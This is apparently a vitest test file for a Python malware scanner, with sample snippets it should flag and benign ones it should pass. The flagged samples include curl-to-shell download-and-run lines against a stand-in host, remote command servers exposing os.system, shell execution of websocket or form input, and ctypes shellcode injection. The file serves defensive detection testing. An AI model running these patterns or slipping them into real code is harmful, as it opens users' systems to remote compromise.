import { expect, test } from 'vitest'
import { scanPython } from './scan-python'

/** Functions and files that are handed to something else, which runs them. */
const HANDED: readonly [string, string, string[]][] = [
  [
    'a function of the system to a server',
    'hidden.process',
    [
      'import os, xmlrpc.server',
      "server = xmlrpc.server.SimpleXMLRPCServer(('', 8000))",
      "server.register_function(os.system, 'run')",
    ],
  ],
  [
    'a command to the end of an object',
    'threat.download-and-run',
    [
      'import os, weakref',
      "weakref.finalize(object, os.system, 'curl https://c.example.net | sh')",
    ],
  ],
  [
    'a handler to a library of messages',
    'flow.input.process',
    [
      'import subprocess, websocket',
      'def on_message(ws, message):',
      '    subprocess.run(message, shell=True)',
      "websocket.WebSocketApp('wss://c.example.net', on_message=on_message)",
    ],
  ],
  [
    'a function to a form',
    'flow.input.process',
    [
      'import gradio as gr, subprocess',
      'def run(line):',
      '    return subprocess.getoutput(line)',
      "gr.Interface(run, 'text', 'text').launch()",
    ],
  ],
  [
    'a download to the path of modules',
    'flow.network.module',
    [
      'import sys',
      'from huggingface_hub import snapshot_download',
      "sys.path.insert(0, snapshot_download('someone/hooks'))",
    ],
  ],
  [
    'an archive to an interpreter',
    'threat.download-and-run',
    [
      'import io, subprocess, zipfile, requests',
      "z = zipfile.ZipFile(io.BytesIO(requests.get('https://c.example.net/a.zip').content))",
      "z.extractall('/tmp/parts')",
      "subprocess.run(['python', '/tmp/parts/run.py'])",
    ],
  ],
  [
    'a file of one command to the next',
    'threat.download-and-run',
    [
      'import os',
      "os.system('curl -so /tmp/a.sh https://c.example.net/a.sh')",
      "os.system('sh /tmp/a.sh')",
    ],
  ],
  [
    'a template of a server to Jinja',
    'flow.network.eval',
    [
      'import jinja2, requests',
      "jinja2.Template(requests.get('https://c.example.net/t').text).render()",
    ],
  ],
  [
    'memory to the processor',
    'hidden.native',
    [
      'import ctypes',
      'code = b"\\x90\\xc3"',
      'at = ctypes.windll.kernel32.VirtualAlloc(0, 2, 0x3000, 0x40)',
      'ctypes.windll.kernel32.RtlMoveMemory(at, code, 2)',
      'ctypes.windll.kernel32.CreateThread(0, 0, at, 0, 0, 0)',
    ],
  ],
]

test.each(HANDED)('%s is followed', (_, name, lines) => {
  expect(scanPython(lines.join('\n')).names('code')).toContain(name)
})

const HONEST: readonly [string, string[]][] = [
  [
    'a resolver of configurations',
    ['from omegaconf import OmegaConf', "OmegaConf.register_new_resolver('eval', eval)"],
  ],
  [
    'an archive of data',
    [
      'import io, zipfile, requests',
      "z = zipfile.ZipFile(io.BytesIO(requests.get('https://c.example.net/a.zip').content))",
      "z.extractall('data')",
      "print(open('data/train.csv').read())",
    ],
  ],
  [
    'memory of a file',
    ['import mmap', "with open('w.bin', 'rb') as f:", '    print(mmap.mmap(f.fileno(), 0)[:4])'],
  ],
  [
    'an interface without a command',
    ['import gradio as gr', "gr.Interface(lambda text: text.upper(), 'text', 'text').launch()"],
  ],
]

test.each(HONEST)('%s does no harm', (_, lines) => {
  expect(scanPython(lines.join('\n')).names('code')).not.toEqual(
    expect.arrayContaining([
      expect.stringMatching(
        /^(flow\.(network|decoded|input)\.(eval|process|module|native)|hidden|threat)/,
      ),
    ]),
  )
})
